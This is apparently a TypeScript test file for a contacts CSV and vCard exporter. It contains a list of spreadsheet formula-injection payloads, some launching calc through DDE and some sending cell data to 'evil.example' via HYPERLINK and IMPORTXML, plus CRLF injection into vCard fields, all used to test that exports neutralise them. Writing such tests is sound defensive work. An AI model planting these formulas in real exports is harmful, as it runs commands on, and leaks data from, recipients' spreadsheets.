import fc from 'fast-check'
import { expect, test } from 'vitest'
import { contact } from '#shared/entities/contact/contact.ts'
import { findPatchFault } from '#shared/fields/validate.ts'
import type { Fields } from '#shared/fields/value.ts'
import { readVcards } from '#shared/clip/vcard.ts'
import { must } from '#shared/lib/must.ts'
import type { StoredRecord } from '../../../store/record-store.ts'
import { loadPhoneFormat } from '../../i18n/phone-format.ts'
import { contactsFromDataCsv, contactsToDataCsv, contactsToSpreadsheetCsv } from './contacts-csv.ts'
import { contactsToVcards } from './contacts-vcard.ts'
import { readCsv, spreadsheetCell, toCsv } from './csv.ts'

const NOW = Date.UTC(2026, 10, 24, 12)
const NO_COMPANIES = new Map<string, string>()

/** What a field hands to a spreadsheet when somebody hostile filled it. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const FRONTS = ['', ' ', '\uFEFF', '"', "'", '\u00A0', ' \t']
const PAYLOADS = [
  ...STARTS.flatMap((start) => FRONTS.map((front) => `${front}${start}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '@SUM(1+1)*cmd',
  '+cmd|x!A1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1+1"',
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '％=1',
  '-1',
  '+49123456',
]

function record(fields: Fields, id = 'C1'): StoredRecord {
  return { entity: 'contact', id, fields, clocks: {} }
}

const text = fc.oneof(
  fc.string({ maxLength: 30, unit: 'grapheme' }),
  fc.constantFrom(
    '',
    ' ',
    '"',
    ',',
    '\r',
    '\n',
    '\r\n',
    '\uFEFF',
    'a\rb',
    '周敏',
    "O'Brien, Ann",
    '{"a":1}',
    '[]',
    '""',
    'null',
  ),
)
const anyContact: fc.Arbitrary<Fields> = fc
  .record(
    {
      name: text,
      title: text,
      city: text,
      address: text,
      company: fc.constantFrom('F1', 'F2'),
      tier: fc.constantFrom('VIP', 'A'),
      birthday: fc.constant('1980-02-29'),
      email: fc.constant('ann@kestrel.example'),
      phone: fc.constantFrom('+4940555014', '+4940555014;ext=2', '555 014'),
      'phones/+4940555015': fc.constantFrom(true, 'work'),
      'emails/other@kestrel.example': fc.constant(true),
      'tags/a, "b"': fc.constant(true),
      'tags/vip': fc.constantFrom<boolean | string>(true, 'x'),
      'origin/name': fc.constant(['signature', 0.9, 'Ann "x"', 'line 3', NOW]),
      'x:budget': fc.oneof(fc.integer(), fc.boolean(), fc.constant([4800, 'EUR'])),
      'x:loose/one': text,
    },
    { requiredKeys: [] },
  )
  .filter((fields) => Object.keys(fields).length > 0 && findPatchFault(contact, fields) === null)

test('any cells come back from CSV as they went in, missing ones as missing', () => {
  const cell = fc.option(text)
  fc.assert(
    fc.property(
      fc
        .integer({ min: 2, max: 5 })
        .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 5 })),
      (rows) => {
        expect(readCsv(toCsv(rows))).toEqual(rows)
      },
    ),
    { numRuns: 1_000 },
  )
})

test('ten thousand contacts come back whole from the data flavour', () => {
  const contacts = fc
    .sample(anyContact, { numRuns: 10_000, seed: 7 })
    .map((fields, index) => record(fields, `C${index}`))
  const csv = contactsToDataCsv(contacts, new Map([['F1', 'Kestrel, "Robotics"']]))
  expect(contactsFromDataCsv(csv)).toEqual(contacts.map(({ id, fields }) => ({ id, fields })))
})

test('no payload of a hostile field begins a formula in the spreadsheet flavour', () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(80)
  for (const payload of PAYLOADS) {
    const [, row = []] = readCsv(
      contactsToSpreadsheetCsv([record({ name: payload, city: payload, [`tags/${payload}`]: true })], NO_COMPANIES),
    )
    for (const cell of row.filter((one) => one !== null)) {
      // What a spreadsheet looks at: the first sign behind what it strips.
      expect(cell.replace(/^[\uFEFF\s"\u00A0]+/u, '').slice(0, 1), JSON.stringify(payload)).not.toMatch(
        /[=+\-@＝＋－＠]/u,
      )
      expect(cell, JSON.stringify(payload)).not.toMatch(/^[\t\r\n]|\r/u)
    }
  }
})

test('phone numbers stay readable and numbers stay numbers', async () => {
  await loadPhoneFormat()
  const rows = readCsv(contactsToSpreadsheetCsv([record({ name: 'Ann', phone: '+4940555014' })], NO_COMPANIES))
  expect(must(rows[1])).toContain('+49 40 555014')
  expect(spreadsheetCell('-12.5', true)).toBe('-12.5')
  expect(spreadsheetCell('-12.5')).toBe("'-12.5")
  expect(spreadsheetCell('+4940555014')).toBe("'+4940555014")
})

test('the data flavour leaves hostile values as they are', () => {
  for (const payload of PAYLOADS)
    expect(contactsFromDataCsv(contactsToDataCsv([record({ city: payload })], NO_COMPANIES))[0]?.fields['city']).toBe(
      payload,
    )
})

test('a card says who somebody is and reads back as the same person', () => {
  const fields = {
    name: 'Hannah; Brandt, Dr.',
    title: 'Head of\nProcurement',
    company: 'F1',
    dept: 'Line 4',
    email: 'hannah@kestrel.example',
    'emails/h.brandt@kestrel.example': true,
    phone: '+49405550142',
    'phones/+49405550143': true,
    'urls/https://kestrel.example/a;b,c': true,
    city: 'Hamburg',
    birthday: '1980-02-29',
    'tags/fair, 2026': true,
  }
  const cards = contactsToVcards([record(fields)], new Map([['F1', 'Kestrel; Robotics']]), NOW)
  const read = readVcards(new TextEncoder().encode(cards), { defaultRegion: 'DE' } as object)
  const person = must(read.ok ? read.value.people[0] : null)
  expect(person.name?.value.full).toBe('Hannah; Brandt, Dr.')
  expect(person.org?.value).toBe('Kestrel; Robotics')
  expect(person.dept?.value).toBe('Line 4')
  expect(person.emails.map(({ value }) => value)).toEqual(['hannah@kestrel.example', 'h.brandt@kestrel.example'])
  expect(person.phones.map(({ value }) => value.e164)).toEqual(['+49405550142', '+49405550143'])
  expect(person.urls.map(({ value }) => value)).toEqual(['https://kestrel.example/a;b,c'])
  expect(cards).toContain('BDAY:19800229\r\n')
  expect(cards).toContain('CATEGORIES:fair\\, 2026\r\n')
})

test('no text of a contact can end its line or add a property, and no line is too long', () => {
  fc.assert(
    fc.property(fc.array(anyContact, { minLength: 1, maxLength: 3 }), text, (all, hostile) => {
      const contacts = all.map((fields) => record({ ...fields, title: `${hostile}\r\nTEL:+1\nEND:VCARD\u2028x` }))
      const cards = contactsToVcards(contacts, new Map([['F1', `x\r\nNOTE:y`]]), NOW)
      const lines = cards.split('\r\n')
      for (const line of lines) {
        expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75)
        expect(line).toMatch(/^(?:[A-Z]+[:;]| |$)/u)
        expect(line).not.toContain('\n')
      }
      expect(lines.filter((line) => line === 'END:VCARD')).toHaveLength(contacts.length)
      expect(lines.filter((line) => line.startsWith('NOTE'))).toEqual([])
    }),
  )
})
